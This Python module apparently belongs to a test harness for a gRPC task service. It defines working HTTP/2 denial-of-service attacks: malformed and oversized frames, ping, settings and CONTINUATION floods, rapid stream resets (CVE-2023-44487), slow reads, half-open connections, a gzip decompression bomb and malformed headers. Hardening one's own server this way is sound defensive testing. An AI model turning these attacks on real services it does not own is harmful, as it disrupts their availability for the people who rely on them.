"""Attacks on the transport. What each does its name says; a round of one takes a second or less."""

import gzip
from collections.abc import Callable

from frames import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from hostile.attacker import PREFACE, Attacker, Headers, block, headers, message, pieces

CREATE = "/idstatus.v1.TaskService/CreateTask"
LIST = "/idstatus.v1.TaskService/ListTasks"
WATCH = "/idstatus.v1.TaskService/WatchTasks"
_PRIORITY, _PUSH_PROMISE, _CONTINUATION = 2, 5, 9
_NO_WINDOW = b"\0\4\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE 0


def malformed_frames(attacker: Attacker) -> None:
    draw = attacker.draw
    for _ in range(50):
        raw = attacker.connect()
        for _ in range(10):
            kind, flags = draw.choice((*range(10), 200)), draw.randrange(256)
            stream = draw.choice((0, 1, 2, 3, 5, 2**31 - 1))
            raw.send(frame(kind, flags, stream, draw.randbytes(draw.randrange(64))))
        raw.send(draw.randbytes(draw.randrange(100)))


def oversized_frames(attacker: Attacker) -> None:
    for kind in range(10):
        raw = attacker.connect()
        raw.send(frame(kind, 0, 1, bytes(1 << 16)))
        attacker.connect().send(b"\xff\xff\xff" + bytes([kind, 0, 0, 0, 0, 1]) + bytes(1 << 16))


def bad_header_blocks(attacker: Attacker) -> None:
    good = headers(CREATE)
    bad = (
        *(
            b"\x80",
            b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f",
            b"\xbf\x01",
            b"\x3f\xff\xff\x7f",
        ),
        *(b"\x40\xff\xff", b"\x40\x01", b"\x00\x84\xff\xff\xff\xff\x01a", b"", good[:-3]),
        *(good + good, block([(":status", "200")]), block([(":method", "POST")])),
        *(block([("X-UPPER", "x")]) + good, good + block([(":path", "late")])),
        good + block([("connection", "close"), ("a b", "c"), ("nul", "\0"), ("", "")]),
        *(attacker.draw.randbytes(40) for _ in range(20)),
    )
    for data in bad:
        raw = attacker.connect()
        raw.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, data))
        raw.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, good))


def wrong_streams(attacker: Attacker) -> None:
    good, number = headers(CREATE), (1).to_bytes(4)
    for data in (
        frame(DATA, 0, 1, b"idle"),
        frame(DATA, 0, 0, b"nobody's"),
        frame(HEADERS, END_HEADERS, 2, good),
        frame(HEADERS, END_HEADERS, 5, good) + frame(HEADERS, END_HEADERS, 3, good),
        frame(HEADERS, END_HEADERS, 1, good) * 2,
        frame(HEADERS, END_HEADERS | END_STREAM, 1, good) + frame(DATA, 0, 1, b"after the end"),
        frame(HEADERS, END_HEADERS, 2**31 - 1, good) + frame(HEADERS, END_HEADERS, 1, good),
        frame(RST_STREAM, 0, 1, CANCEL) + frame(RST_STREAM, 0, 0, CANCEL),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4)) * 2,
        frame(WINDOW_UPDATE, 0, 1, number),
        frame(_PRIORITY, 0, 1, number + b"\0"),
        frame(SETTINGS, 0, 1, b"") + frame(SETTINGS, 0, 0, b"\0"),
        frame(SETTINGS, 1, 0, bytes(6)) + frame(SETTINGS, 0, 0, b"\0\4\xff\xff\xff\xff"),
        frame(SETTINGS, 0, 0, b"\0\5\0\0\0\0" + b"\0\2\0\0\0\7"),
        frame(PING, 0, 1, bytes(8)) + frame(PING, 0, 0, bytes(7)),
        frame(_PUSH_PROMISE, END_HEADERS, 1, number + good),
        frame(_CONTINUATION, END_HEADERS, 1, good),
        frame(GOAWAY, 0, 0, bytes(8)) + frame(HEADERS, END_HEADERS, 1, good),
    ):
        attacker.connect().send(data)


def ping_flood(attacker: Attacker) -> None:
    raw = attacker.connect()
    for _ in range(100):
        raw.send(frame(PING, 0, 0, b"pingping") * 1000)


def settings_flood(attacker: Attacker) -> None:
    raw = attacker.connect()
    for _ in range(100):
        raw.send(frame(SETTINGS, 0, 0, _NO_WINDOW) * 1000)


def empty_frame_flood(attacker: Attacker) -> None:
    raw = attacker.connect()
    stream = raw.call(CREATE, ends=False)
    for _ in range(50):
        raw.send(frame(DATA, 0, stream, b"") * 1000)
        raw.send(frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4)) * 1000)


def rapid_resets(attacker: Attacker) -> None:
    """Begin calls and take them back, as CVE-2023-44487 does."""
    for path in (CREATE, LIST, WATCH):
        raw = attacker.connect()
        begin, body = headers(path), message(b"")
        for first in range(1, 2000, 200):
            raw.send(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, begin)
                    + frame(DATA, END_STREAM, stream, body)
                    + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(first, first + 200, 2)
                )
            )


def half_open_connections(attacker: Attacker) -> None:
    for _ in range(50):
        attacker.connect(greet=False)
        attacker.connect(greet=False).send(PREFACE[:10])
        attacker.connect(greet=False).send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        attacker.connect().send(frame(HEADERS, END_HEADERS, 1, headers(CREATE))[:20])
        attacker.connect().call(CREATE, message(b"never the rest")[:8], ends=False)


def slow_reads(attacker: Attacker) -> None:
    for _ in range(5):
        raw = attacker.connect(_NO_WINDOW)
        for path in (LIST, WATCH, CREATE) * 10:
            raw.call(path, message(b""))


def continuation_flood(attacker: Attacker) -> None:
    for filler in (b"", block([("a", "b" * 1000)]), b"\x82" * 1000):
        raw = attacker.connect()
        raw.send(frame(HEADERS, 0, 1, headers(CREATE)))
        for _ in range(20):
            raw.send(frame(_CONTINUATION, 0, 1, filler) * 500)


def oversized_messages(attacker: Attacker) -> None:
    for size in (17 << 20, 2**32 - 1):
        raw = attacker.connect()
        stream = raw.call(CREATE, b"\0" + size.to_bytes(4), ends=False)
        for _ in range(20):
            raw.send(pieces(DATA, stream, bytes(1 << 16)))


def compressed_messages(attacker: Attacker) -> None:
    """Send what is said to be compressed and is not, and a few bytes that become very many."""
    bomb = gzip.compress(bytes(64 << 20))
    for encoding in ("gzip", "deflate", "identity", "br", "gzip, gzip", ""):
        for data in (b"no such thing", bomb):
            raw = attacker.connect()
            stream = raw.call(CREATE, extra=[("grpc-encoding", encoding)], ends=False)
            raw.send(pieces(DATA, stream, message(data, compressed=1)))
            raw.send(frame(DATA, END_STREAM, stream, b""))


def strange_requests(attacker: Attacker) -> None:
    paths = ("", "/", "//", "*", "/a", "/idstatus.v1.TaskService/", CREATE + "/", "/" + "x" * 8000)
    for path in (*paths, b"/\xff\xfe", CREATE.encode() + b"\xc3", b"/\0/\0", "/ü/ü"):
        attacker.connect().call(path, message(b""))
    for body in (b"", b"\0", message(b"cut")[:6], message(b"") * 2, message(b"", compressed=2)):
        attacker.connect().call(CREATE, body)
    extras: tuple[Headers, ...] = (
        *([("grpc-timeout", text)] for text in ("", "x", "-1S", "0n", "99999999H", "1" * 50 + "S")),
        *([("content-type", text)] for text in ("", "text/html", "application/grpc+json", "\xff")),
        *([(name, "x")] for name in ("grpc-status", "grpc-message", "grpc-tags-bin", "host")),
        *([("content-length", text)] for text in ("0", "-1", "99999999999999999999")),
        *([("data-bin", "not base64!")], [("grpc-accept-encoding", "," * 1000)]),
        *(
            [(name, b"\xff\xfe\0")]
            for name in ("data", "data-bin", ":authority", "user-agent", "te")
        ),
        [("user-agent", "\x00\x01\x7f")],
    )
    for extra in extras:
        attacker.connect().call(CREATE, message(b""), extra=extra)
    for fields in (
        [(":method", "GET"), (":scheme", "http"), (":path", CREATE), (":authority", "x")],
        [(":method", "CONNECT"), (":authority", "x")],
        [(":method", "POST"), (":scheme", "gopher"), (":path", CREATE), ("te", "deflate")],
    ):
        attacker.connect().send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(fields)))


def huge_metadata(attacker: Attacker) -> None:
    for extra in ([("big", "x" * (1 << 20))], [(f"k{n}", "v" * 100) for n in range(5000)]):
        raw = attacker.connect()
        data = headers(CREATE, extra)
        raw.send(frame(HEADERS, 0, 1, data[: 1 << 14]))
        raw.send(pieces(_CONTINUATION, 1, data[1 << 14 :]))
        raw.send(frame(_CONTINUATION, END_HEADERS, 1, b""))


def slammed_doors(attacker: Attacker) -> None:
    """Leave without a word amid calls of all kinds."""
    for _ in range(30):
        raw = attacker.connect()
        for path in (CREATE, LIST, WATCH, "/idstatus.v1.RunnerService/Run"):
            raw.call(path, message(b""), ends=attacker.draw.random() < 0.5)
        raw.slam()


ATTACKS: tuple[Callable[[Attacker], None], ...] = (
    *(malformed_frames, oversized_frames, bad_header_blocks, wrong_streams),
    *(ping_flood, settings_flood, empty_frame_flood, rapid_resets, continuation_flood),
    *(half_open_connections, slow_reads, slammed_doors),
    *(oversized_messages, compressed_messages, strange_requests, huge_metadata),
)
